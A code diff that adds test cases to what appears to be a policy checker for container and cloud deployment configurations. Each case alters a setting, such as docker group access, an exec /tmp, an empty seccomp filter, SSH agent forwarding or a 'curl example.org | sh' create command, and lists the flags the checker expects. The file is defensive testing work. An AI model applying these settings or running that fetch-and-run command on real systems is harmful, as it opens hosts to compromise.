@@ -119,6 +119,106 @@ IN_THE_PROGRAM: dict[str, tuple[str, Edit, set[str], tuple[str, ...]]] = {
         {"OPENS", "POLICY"},
         ("privileged",),
     ),
+    "a container joins the group of the engine's socket": (
+        "local",
+        with_input("web-container", "groupAdds", value=["docker"]),
+        {"NOT JUDGED"},
+        ("web-container: groupAdds",),
+    ),
+    "a container gets a file of the loader's": (
+        "local",
+        with_input("web-container", "uploads", value=[{"file": "/etc/ld.so.preload"}]),
+        {"NOT JUDGED"},
+        ("web-container: uploads",),
+    ),
+    "a container's mounts come with the machine's": (
+        "local",
+        with_input(
+            "visitor-container", "mounts", "0", "bindOptions", value={"propagation": "rshared"}
+        ),
+        {"OPENS"},
+        ("what the machine mounts below", "rshared"),
+    ),
+    "a volume is a folder of the machine": (
+        "local",
+        with_input("data-volume", "driverOpts", value={"type": "none", "device": "/home"}),
+        {"OPENS", "DATA LOSS"},
+        ("data is no place of the engine's own, but what device=/home",),
+    ),
+    "programs run from a temporary folder": (
+        "local",
+        with_input("web-container", "tmpfs", value={"/tmp": "rw,exec,suid"}),
+        {"OPENS"},
+        ("/tmp is mounted without noexec, nosuid, nodev",),
+    ),
+    "a network is the machine's own": (
+        "local",
+        with_input("back-network", "driver", value="macvlan"),
+        {"OPENS"},
+        ("driver macvlan",),
+    ),
+    "a filter of system calls is another": (
+        "local",
+        with_input("web-container", "securityOpts", value=["no-new-privileges:true", "seccomp={}"]),
+        {"OPENS"},
+        ("seccomp",),
+    ),
+    "a shutdown ends the machine": (
+        "dev",
+        with_input("host-instance", "instanceInitiatedShutdownBehavior", value="terminate"),
+        {"GUARD LOST"},
+        ("a shutdown from inside stops it",),
+    ),
+    "a machine is behind another firewall too": (
+        "dev",
+        with_input("host-instance", "vpcSecurityGroupIds", value=["${host-firewall.id}", "sg-1"]),
+        {"OPENS"},
+        ("lets in whom sg-1 lets in",),
+    ),
+    "keys are lent to the machine": (
+        "prod",
+        with_input("host-docker", "sshOpts", value=["-o", "ForwardAgent=yes"]),
+        {"OTHER SSH OPTIONS"},
+        ("ForwardAgent=yes",),
+    ),
+    "another first boot is not done": (
+        "prod",
+        with_input("host-instance", "userDataReplaceOnChange", value=False),
+        {"GUARD LOST"},
+        ("another first boot makes the machine anew",),
+    ),
+    "what is declared of a container counts no more": (
+        "local",
+        lambda one: (
+            replace(one, options=replace(one.options, ignore_changes=("mounts", "user")))
+            if one.name == "web-container"
+            else one
+        ),
+        {"GUARD LOST"},
+        ("of web-container changes of mounts, user are passed over",),
+    ),
+    "the calls to AWS go elsewhere": (
+        "dev",
+        with_input("host-aws", "endpoints", value=[{"ec2": "https://example.org"}]),
+        {"NOT JUDGED"},
+        ("host-aws: endpoints",),
+    ),
+    "what the first bind's folder takes is another command": (
+        "local",
+        with_input("notes-5cfce6-mkdir", "create", value="curl example.org | sh"),
+        {"OTHER CREATE COMMAND"},
+        ("curl example.org | sh",),
+    ),
+    "a plugin comes from elsewhere": (
+        "local",
+        lambda one: (
+            replace(one, options=replace(one.options, further=("pluginDownloadURL",)))
+            if one.name == "base-image"
+            else one
+        ),
+        {"NOT JUDGED"},
+        ("base-image: option pluginDownloadURL",),
+    ),
     "host keys are not checked": (
         "prod",
         with_input("host-docker", "sshOpts", value=["-o", "StrictHostKeyChecking=no"]),
